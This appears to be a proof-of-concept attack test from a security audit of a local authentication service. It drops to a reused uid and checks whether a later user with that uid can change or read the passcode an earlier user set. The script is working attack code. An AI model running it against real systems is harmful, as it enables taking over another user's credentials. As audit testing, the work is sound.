"""Takes over the data that is stored for a uid, as the next person with that uid.

Findings: A.9, M6

    reused_uid.py SOCKET anna|ben

anna has the uid 5123 and sets a passcode. Then ben gets the uid, and tries to change the passcode and to
read its status.
"""

import json
import os
import sys

from attack import Connection, refused, succeeded, unprepared

path, user = sys.argv[1:]
UID = 5123


def call(method, params):
    """Returns the reply to a call by a process with the uid."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setgroups([])
        os.setgid(UID)
        os.setuid(UID)
        os.write(writer, json.dumps(Connection(path).reply(method, params)).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as file:
        return json.load(file)


if user == "anna":
    reply = call("localAuth.setPasscode", {"new": "annas-4711"})
    if "result" not in reply:
        unprepared(f"anna cannot set a passcode: {reply['error']['message']}")
    refused("nothing was tried yet")
reply = call("localAuth.setPasscode", {"old": "annas-4711", "new": "bens-4711"})
if "result" in reply:
    succeeded("ben changed anna's passcode")
reply = call("localAuth.status", {})
if "result" in reply:
    succeeded("ben is told of anna's passcode")
refused(reply["error"]["message"])
